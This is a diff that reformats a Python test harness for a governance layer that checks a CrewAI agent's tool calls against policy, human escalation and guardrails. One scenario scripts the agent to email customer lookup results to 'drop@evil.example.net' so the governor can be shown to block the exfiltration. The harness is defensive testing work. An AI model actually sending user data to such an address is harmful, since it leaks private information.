@@ -70,16 +70,19 @@ labels:
 class Scene:
     """One scenario's world: a governor in its own folder, tools that leave side effects, a results dict."""
 
-    def __init__(self, root: Path, name: str, governor_cls: type[Governor] = Governor,
-                 **settings: Any) -> None:
+    def __init__(self, root: Path, name: str, governor_cls: type[Governor] = Governor, **settings: Any) -> None:
         self.dir = root / name
         (self.dir / "policies").mkdir(parents=True)
         (self.dir / "effects").mkdir()
         (self.dir / "policies" / "researcher.yaml").write_text(POLICY)
         settings.setdefault("load_entry_points", False)
-        self.gov = governor_cls(policy_path=self.dir / "policies", audit_path=self.dir / "audit",
-                                identity_path=self.dir / "identities", state_path=self.dir / "state",
-                                **settings)
+        self.gov = governor_cls(
+            policy_path=self.dir / "policies",
+            audit_path=self.dir / "audit",
+            identity_path=self.dir / "identities",
+            state_path=self.dir / "state",
+            **settings,
+        )
         self.ran: list[str] = []
         self.tools = self._make_tools()
 
@@ -122,9 +125,13 @@ class Scene:
         return [dict(e) for e in self.gov.audit.entries()]
 
     def summary(self) -> dict[str, Any]:
-        return {"ran": list(self.ran), "effects": self.effects(), "audit": self.audit(),
-                "trust": self.gov.trust_score("researcher"),
-                "pending": [e.id for e in self.gov.escalations.pending()]}
+        return {
+            "ran": list(self.ran),
+            "effects": self.effects(),
+            "audit": self.audit(),
+            "trust": self.gov.trust_score("researcher"),
+            "pending": [e.id for e in self.gov.escalations.pending()],
+        }
 
 
 def steps_for(path: str, calls: list[tuple[str, dict[str, Any]]], final: str) -> list[Any]:
@@ -134,17 +141,31 @@ def steps_for(path: str, calls: list[tuple[str, dict[str, Any]]], final: str) ->
     return [*(react_action(t, a) for t, a in calls), react_final(final)]
 
 
-def kickoff(path: str, tools: list[BaseTool], calls: list[tuple[str, dict[str, Any]]],
-            final: str = "all done", *, runner: Callable[[Crew], Any] | None = None,
-            task_kwargs: dict[str, Any] | None = None,
-            crew_kwargs: dict[str, Any] | None = None, llm: ScriptedLLM | None = None) -> dict[str, Any]:
+def kickoff(
+    path: str,
+    tools: list[BaseTool],
+    calls: list[tuple[str, dict[str, Any]]],
+    final: str = "all done",
+    *,
+    runner: Callable[[Crew], Any] | None = None,
+    task_kwargs: dict[str, Any] | None = None,
+    crew_kwargs: dict[str, Any] | None = None,
+    llm: ScriptedLLM | None = None,
+) -> dict[str, Any]:
     """Run one real crew (one agent "Researcher", one task) and report what happened."""
-    llm = llm or ScriptedLLM(model="scripted", steps=steps_for(path, calls, final), native=path == "native",
-                             fallback=final)
-    agent = Agent(role="Researcher", goal="Answer questions", backstory="Careful.", llm=llm, tools=tools,
-                  verbose=False, max_iter=6)
-    task = Task(description="Do the job", expected_output="A short answer", agent=agent,
-                **(task_kwargs or {}))
+    llm = llm or ScriptedLLM(
+        model="scripted", steps=steps_for(path, calls, final), native=path == "native", fallback=final
+    )
+    agent = Agent(
+        role="Researcher",
+        goal="Answer questions",
+        backstory="Careful.",
+        llm=llm,
+        tools=tools,
+        verbose=False,
+        max_iter=6,
+    )
+    task = Task(description="Do the job", expected_output="A short answer", agent=agent, **(task_kwargs or {}))
     crew = Crew(agents=[agent], tasks=[task], verbose=False, **(crew_kwargs or {}))
     result: dict[str, Any] = {"output": None, "error": None}
     try:
@@ -174,8 +195,9 @@ def approve_when_pending(gov: Governor, seconds: float = 10.0) -> threading.Thre
         while time.monotonic() < deadline:
             pending = gov.escalations.pending()
             if pending:
-                gov.resolve_escalation(pending[0].id, "approved", notes="ok",
-                                       resolver=gov.reviewers.ensure("alice@example.com"))
+                gov.resolve_escalation(
+                    pending[0].id, "approved", notes="ok", resolver=gov.reviewers.ensure("alice@example.com")
+                )
                 return
             time.sleep(0.02)
 
@@ -197,8 +219,11 @@ def hook_scenarios(root: Path, path: str) -> dict[str, Any]:
 
     s = Scene(root, f"denied-{path}")
     with enabled(s.gov):
-        out["denied"] = kickoff(path, [s.tools["lookup"], s.tools["delete_records"]],
-                                [("delete_records", {"table": "users"}), ("lookup", {"query": "after"})])
+        out["denied"] = kickoff(
+            path,
+            [s.tools["lookup"], s.tools["delete_records"]],
+            [("delete_records", {"table": "users"}), ("lookup", {"query": "after"})],
+        )
     out["denied"].update(s.summary())
 
     s = Scene(root, f"escalated-{path}")
@@ -207,8 +232,9 @@ def hook_scenarios(root: Path, path: str) -> dict[str, Any]:
         first = kickoff(path, [s.tools["send_email"]], mail)
         first.update(s.summary())
         if first["pending"]:
-            s.gov.resolve_escalation(first["pending"][0], "approved", notes="fine",
-                                     resolver=s.gov.reviewers.ensure("alice@example.com"))
+            s.gov.resolve_escalation(
+                first["pending"][0], "approved", notes="fine", resolver=s.gov.reviewers.ensure("alice@example.com")
+            )
         again = kickoff(path, [s.tools["send_email"]], mail)
         again.update(s.summary())
         third = kickoff(path, [s.tools["send_email"]], mail)
@@ -221,17 +247,23 @@ def hook_scenarios(root: Path, path: str) -> dict[str, Any]:
     (s.dir / "policies" / "researcher.yaml").write_text(EXFILTRATION_POLICY)
     s.gov.reload_policies()
     with enabled(s.gov):
-        out["exfiltration"] = kickoff(path, [s.tools["lookup"], s.tools["send_email"]], [
-            ("lookup", {"query": "customer 7"}),
-            ("send_email", {"to": "drop@evil.example.net", "body": "LOOKUP-RESULT for customer 7"}),
-            ("send_email", {"to": "team@example.com", "body": "looked up customer 7"})])
+        out["exfiltration"] = kickoff(
+            path,
+            [s.tools["lookup"], s.tools["send_email"]],
+            [
+                ("lookup", {"query": "customer 7"}),
+                ("send_email", {"to": "drop@evil.example.net", "body": "LOOKUP-RESULT for customer 7"}),
+                ("send_email", {"to": "team@example.com", "body": "looked up customer 7"}),
+            ],
+        )
     out["exfiltration"].update(s.summary())
 
     s = Scene(root, f"escalation-wait-{path}")
     with enabled(s.gov, wait_for_approval=10):
         human = approve_when_pending(s.gov)
-        out["escalation_wait"] = kickoff(path, [s.tools["send_email"]],
-                                         [("send_email", {"to": "carol@example.com", "body": "report"})])
+        out["escalation_wait"] = kickoff(
+            path, [s.tools["send_email"]], [("send_email", {"to": "carol@example.com", "body": "report"})]
+        )
         human.join(5)
     out["escalation_wait"].update(s.summary())
 
@@ -248,8 +280,11 @@ def hook_scenarios(root: Path, path: str) -> dict[str, Any]:
         raise KeyError("no such directory entry")
 
     with enabled(s.gov, agent_id=broken_agent_id):
-        out["hook_error"] = kickoff(path, [s.tools["delete_records"], s.tools["lookup"]],
-                                    [("lookup", {"query": "x"}), ("delete_records", {"table": "orders"})])
+        out["hook_error"] = kickoff(
+            path,
+            [s.tools["delete_records"], s.tools["lookup"]],
+            [("lookup", {"query": "x"}), ("delete_records", {"table": "orders"})],
+        )
     out["hook_error"].update(s.summary())
 
     class ExplodingGovernor(Governor):
@@ -273,8 +308,12 @@ def hook_scenarios(root: Path, path: str) -> dict[str, Any]:
 
     s = Scene(root, f"scoped-{path}")
     hooks_before = len(get_before_tool_call_hooks())
-    scoped = kickoff(path, [s.tools["delete_records"]], [("delete_records", {"table": "a"})],
-                     runner=lambda crew: governed_kickoff(crew, s.gov))
+    scoped = kickoff(
+        path,
+        [s.tools["delete_records"]],
+        [("delete_records", {"table": "a"})],
+        runner=lambda crew: governed_kickoff(crew, s.gov),
+    )
     scoped.update(s.summary())
     inside_ctx: dict[str, Any] = {}
     with crewai_governance(s.gov):
@@ -282,19 +321,27 @@ def hook_scenarios(root: Path, path: str) -> dict[str, Any]:
     inside_ctx.update(s.summary())
     outside = kickoff(path, [s.tools["delete_records"]], [("delete_records", {"table": "c"})])
     outside.update(s.summary())
-    out["scoped"] = {"governed_kickoff": scoped, "with_block": inside_ctx, "after_block": outside,
-                     "global_hooks_unchanged": len(get_before_tool_call_hooks()) == hooks_before}
+    out["scoped"] = {
+        "governed_kickoff": scoped,
+        "with_block": inside_ctx,
+        "after_block": outside,
+        "global_hooks_unchanged": len(get_before_tool_call_hooks()) == hooks_before,
+    }
 
     s = Scene(root, f"wrapped-{path}")
-    wrapped = [GovernedCrewTool(s.tools[name], governor=s.gov, agent_id="researcher")
-               for name in ("lookup", "delete_records")]
+    wrapped = [
+        GovernedCrewTool(s.tools[name], governor=s.gov, agent_id="researcher") for name in ("lookup", "delete_records")
+    ]
     alone = kickoff(path, wrapped, [("lookup", {"query": "w"}), ("delete_records", {"table": "users"})])
     alone.update(s.summary())
     with enabled(s.gov):
         both = kickoff(path, wrapped, [("lookup", {"query": "v"})])
     both.update(s.summary())
-    out["wrapped"] = {"alone": alone, "with_hooks": both,
-                      "schema_kept": wrapped[0].args_schema is s.tools["lookup"].args_schema}
+    out["wrapped"] = {
+        "alone": alone,
+        "with_hooks": both,
+        "schema_kept": wrapped[0].args_schema is s.tools["lookup"].args_schema,
+    }
     return out
 
 
@@ -317,40 +364,62 @@ def enable_scenario(root: Path) -> dict[str, Any]:
     counts["closed"] = (len(get_before_tool_call_hooks()), len(get_after_tool_call_hooks()))
     s.gov.disable()  # only an explicit disable() removes them
     counts["disabled_after_close"] = (len(get_before_tool_call_hooks()), len(get_after_tool_call_hooks()))
-    return {"plugins": sorted(n for n, _ in s.gov.pm.list_name_plugin()), "counts": counts, "health": health,
-            "while_enabled": run, "after_disable": after}
+    return {
+        "plugins": sorted(n for n, _ in s.gov.pm.list_name_plugin()),
+        "counts": counts,
+        "health": health,
+        "while_enabled": run,
+        "after_disable": after,
+    }
 
 
 def task_scenarios(root: Path) -> dict[str, Any]:
     out: dict[str, Any] = {}
 
     s = Scene(root, "task-allowed")
-    out["allowed"] = kickoff("react", [], [], final="The summary.",
-                             task_kwargs={"name": "summary", "guardrail": governance_guardrail(s.gov)},
-                             crew_kwargs={"task_callback": task_audit_callback(s.gov)})
+    out["allowed"] = kickoff(
+        "react",
+        [],
+        [],
+        final="The summary.",
+        task_kwargs={"name": "summary", "guardrail": governance_guardrail(s.gov)},
+        crew_kwargs={"task_callback": task_audit_callback(s.gov)},
+    )
     out["allowed"].update(s.summary())
 
     s = Scene(root, "task-denied")
-    out["denied"] = kickoff("react", [], [], final="Press release text.",
-                            task_kwargs={"name": "publish", "guardrail": governance_guardrail(s.gov),
-                                         "guardrail_max_retries": 1},
-                            crew_kwargs={"task_callback": task_audit_callback(s.gov)})
+    out["denied"] = kickoff(
+        "react",
+        [],
+        [],
+        final="Press release text.",
+        task_kwargs={"name": "publish", "guardrail": governance_guardrail(s.gov), "guardrail_max_retries": 1},
+        crew_kwargs={"task_callback": task_audit_callback(s.gov)},
+    )
     out["denied"].update(s.summary())
 
     s = Scene(root, "task-escalated-approved")
     human = approve_when_pending(s.gov)
     out["escalated_approved"] = kickoff(
-        "react", [], [], final="The final report.",
+        "react",
+        [],
+        [],
+        final="The final report.",
         task_kwargs={"name": "Final Report", "guardrail": governance_guardrail(s.gov, hold_seconds=10)},
-        crew_kwargs={"task_callback": task_audit_callback(s.gov)})
+        crew_kwargs={"task_callback": task_audit_callback(s.gov)},
+    )
     human.join(5)
     out["escalated_approved"].update(s.summary())
 
     s = Scene(root, "task-escalated-unanswered")
     guard = governance_guardrail(s.gov, hold_seconds=0.2)
     out["escalated_unanswered"] = kickoff(
-        "react", [], [], final="The final report.",
-        task_kwargs={"name": "Final Report", "guardrail": guard, "guardrail_max_retries": 2})
+        "react",
+        [],
+        [],
+        final="The final report.",
+        task_kwargs={"name": "Final Report", "guardrail": guard, "guardrail_max_retries": 2},
+    )
     out["escalated_unanswered"].update(s.summary(), outcomes=[d.outcome.value for d in guard.gate.decisions])
 
     s = Scene(root, "task-escalated-denied")
@@ -360,17 +429,25 @@ def task_scenarios(root: Path) -> dict[str, Any]:
         while time.monotonic() < deadline:
             pending = s.gov.escalations.pending()
             if pending:
-                s.gov.resolve_escalation(pending[0].id, "denied", notes="no",
-                                         resolver=s.gov.reviewers.ensure("alice@example.com"))
+                s.gov.resolve_escalation(
+                    pending[0].id, "denied", notes="no", resolver=s.gov.reviewers.ensure("alice@example.com")
+                )
                 return
             time.sleep(0.02)
 
     thread = threading.Thread(target=deny_when_pending, daemon=True)
     thread.start()
     out["escalated_denied"] = kickoff(
-        "react", [], [], final="The final report.",
-        task_kwargs={"name": "Final Report", "guardrail": governance_guardrail(s.gov, hold_seconds=10),
-                     "guardrail_max_retries": 0})
+        "react",
+        [],
+        [],
+        final="The final report.",
+        task_kwargs={
+            "name": "Final Report",
+            "guardrail": governance_guardrail(s.gov, hold_seconds=10),
+            "guardrail_max_retries": 0,
+        },
+    )
     thread.join(5)
     out["escalated_denied"].update(s.summary())
     return out
@@ -383,9 +460,12 @@ def async_scenarios(root: Path, path: str) -> dict[str, Any]:
 
     s = Scene(root, f"akickoff-{path}")
     with enabled(s.gov):
-        out["akickoff"] = kickoff(path, [s.tools["lookup"], s.tools["delete_records"]],
-                                  [("delete_records", {"table": "users"}), ("lookup", {"query": "async"})],
-                                  runner=lambda crew: asyncio.run(crew.akickoff()))
+        out["akickoff"] = kickoff(
+            path,
+            [s.tools["lookup"], s.tools["delete_records"]],
+            [("delete_records", {"table": "users"}), ("lookup", {"query": "async"})],
+            runner=lambda crew: asyncio.run(crew.akickoff()),
+        )
     out["akickoff"].update(s.summary())
 
     s = Scene(root, f"akickoff-scoped-{path}")
@@ -394,8 +474,12 @@ def async_scenarios(root: Path, path: str) -> dict[str, Any]:
         with crewai_governance(s.gov):
             return await crew.akickoff()
 
-    out["akickoff_scoped"] = kickoff(path, [s.tools["delete_records"]], [("delete_records", {"table": "x"})],
-                                     runner=lambda crew: asyncio.run(scoped_run(crew)))
+    out["akickoff_scoped"] = kickoff(
+        path,
+        [s.tools["delete_records"]],
+        [("delete_records", {"table": "x"})],
+        runner=lambda crew: asyncio.run(scoped_run(crew)),
+    )
     out["akickoff_scoped"].update(s.summary())
 
     if path == "react":  # the wrapper's own async entry point does not depend on the tool path
